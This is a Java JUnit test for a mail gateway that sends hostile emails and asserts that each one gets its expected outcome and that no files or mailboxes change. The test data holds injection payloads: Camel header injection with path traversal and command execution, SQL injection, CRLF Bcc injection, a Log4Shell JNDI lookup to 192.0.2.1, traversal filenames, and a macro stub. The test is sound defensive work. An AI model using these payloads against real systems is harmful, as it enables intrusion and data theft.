package mhss.gateway.journey;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import mhss.gateway.journey.PostOffice.Lying;
import mhss.gateway.sandbox.AnnexASamples;
import mhss.gateway.sandbox.Letter.Part;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What nobody sends in good faith, the whole way from the mailbox to the answer. */
class HostileMailTest {

  private static final String HOSTILE_HEADERS =
      """
      CamelFileName: ../../../evil-9137
      CAmelExecCommandExecutable: touch
      CamelBeanMethodName: withhold
      camelsmtpto: evil-9137@elsewhere.example
      delete: true
      moveTo: Trash
      copyTo: Trash
      mail.smtp.host: 192.0.2.1
      Long-Running-Action: evil-9137
      to.evil: ${bean:receive?method=receive}
      """
          .replace("\n", "\r\n");

  @TempDir Path folder;
  private GatewayUnderTest gateway;

  /** Expected status of each mail, in the order in which they were sent. */
  private final Map<byte[], String> mails = new LinkedHashMap<>();

  @BeforeEach
  void start() throws IOException {
    gateway = new GatewayUnderTest(folder, Map.of("folders", "*")).start();
    gateway.stop();
    assertThat(Files.readString(gateway.output()).strip()).endsWith("The gateway has stopped.");
  }

  @AfterEach
  void stop() {
    gateway.close();
  }

  @Test
  void givesEveryHostileMailItsOutcomeAndTouchesNothing() throws IOException {
    letters();
    mails.keySet().forEach(gateway.post::send);
    gateway.post.colleague(store -> store.getFolder("Trash").create(3));
    List<Lying> before = gateway.post.inProvidersMailbox();
    List<String> files = filesOutside();

    gateway.start();
    gateway.awaitQuiet(mails.size());

    assertThat(statusByUid()).isEqualTo(List.copyOf(mails.values()));
    assertThat(gateway.post.inProvidersMailbox()).isEqualTo(before);
    assertThat(filesOutside()).isEqualTo(files);
    everyAnswerGoesToTheAdviserAndNobodyElse();
    assertThat(gateway.history().intact()).isTrue();
  }

  private void letters() throws IOException {
    Correspondence letters = gateway.letters;
    mails.put(with(HOSTILE_HEADERS, letters.chat("a@x.example", "Hello")), "not-ours");
    mails.put(with(HOSTILE_HEADERS, letters.referral("b@x.example", "AB1001")), "applied");
    mails.put(letters.referral("'); drop table message; --", "AB1002"), "applied");
    mails.put(
        letters.referral("crlf@x.example>\r\n Bcc: <evil-9137@elsewhere.example", "AB1003"),
        "applied");
    mails.put(letters.referral("x@[${jndi:ldap://192.0.2.1/a}]", "AB1004"), "applied");
    mails.put(form("d", "../../../../evil-9137.pdf", pdf("AB1005")), "applied");
    mails.put(form("e", "/tmp/evil-9137.pdf", pdf("AB1006")), "applied");
    mails.put(form("f", "AnnexA.docm", withMacros("AB1007")), "parked");
    mails.put(form("g", "AnnexA.pdf", encrypted("AB1008")), "parked");
    mails.put(letters.referral("same@x.example", "AB1009"), "applied");
    mails.put(letters.referral("same@x.example", "AB1010"), "applied");
    mails.put(withoutId(letters.referral("none@x.example", "AB1011")), "applied");
    endless(letters);
  }

  /** Each of them would keep a program busy for hours that looks for words in it. */
  private void endless(Correspondence letters) {
    String accents = "e" + "\u0301\u0316".repeat(50_000);
    mails.put(letters.chat("accents@x.example", accents), "not-ours");
    mails.put(letters.chat("signs@x.example", "\uFDFA".repeat(100_000)), "not-ours");
    mails.put(
        letters.fromAdviser("prap ".repeat(10_000)).plain("half@x.example", "Hello"), "not-ours");
    mails.put(
        letters.sealed(
            "beside@x.example",
            letters.adviser,
            Correspondence.text(letters.values("AB1012")),
            Part.text(accents)),
        "applied");
  }

  private byte[] form(String id, String fileName, byte[] content) {
    return gateway.letters.sealed(
        id + "@x.example",
        gateway.letters.adviser,
        Part.text("See the form."),
        new Part(fileName, "application/octet-stream", content));
  }

  private byte[] pdf(String urn) {
    return AnnexASamples.pdfForm(gateway.letters.values(urn));
  }

  private byte[] encrypted(String urn) throws IOException {
    try (PDDocument document = Loader.loadPDF(pdf(urn))) {
      document.protect(new StandardProtectionPolicy("owner", "secret", new AccessPermission()));
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      document.save(bytes);
      return bytes.toByteArray();
    }
  }

  private byte[] withMacros(String urn) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    byte[] docx = AnnexASamples.docx(gateway.letters.values(urn));
    try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(docx));
        ZipOutputStream out = new ZipOutputStream(bytes)) {
      for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
        out.putNextEntry(new ZipEntry(entry.getName()));
        in.transferTo(out);
      }
      out.putNextEntry(new ZipEntry("word/vbaProject.bin"));
      out.write("Sub AutoOpen()".getBytes(StandardCharsets.US_ASCII));
    }
    return bytes.toByteArray();
  }

  private static byte[] with(String headers, byte[] mail) {
    return (headers + text(mail)).getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] withoutId(byte[] mail) {
    return text(mail)
        .replaceFirst("Message-ID: [^\r]*\r\n", "")
        .getBytes(StandardCharsets.ISO_8859_1);
  }

  private static String text(byte[] mail) {
    return new String(mail, StandardCharsets.ISO_8859_1);
  }

  private List<String> statusByUid() {
    return gateway
        .database()
        .sql(
            "select m.status from mailbox_entry e join message m on m.id = e.message"
                + " where e.folder = 'INBOX' order by e.uid")
        .query(String.class)
        .list();
  }

  private void everyAnswerGoesToTheAdviserAndNobodyElse() {
    long applied = mails.values().stream().filter("applied"::equals).count();
    assertThat(gateway.count("outbox where state = 'sent'")).isEqualTo(applied);
    assertThat(gateway.post.inAdvisersMailbox()).hasSize((int) applied);
    assertThat(gateway.post.otherMailboxes(PostOffice.PROVIDER, PostOffice.ADVISER)).isEmpty();
  }

  /** Where the tricks in the mails point to. */
  private List<String> filesOutside() throws IOException {
    List<String> files = new ArrayList<>();
    for (Path place : List.of(folder, Path.of(""), Path.of("/tmp"))) {
      try (Stream<Path> paths = Files.walk(place.toAbsolutePath(), place.equals(folder) ? 99 : 1)) {
        paths
            .filter(path -> !path.startsWith(gateway.data()))
            .map(Path::toString)
            .filter(path -> path.startsWith(folder.toString()) || path.contains("evil-9137"))
            .sorted()
            .forEach(files::add);
      }
    }
    return files;
  }
}
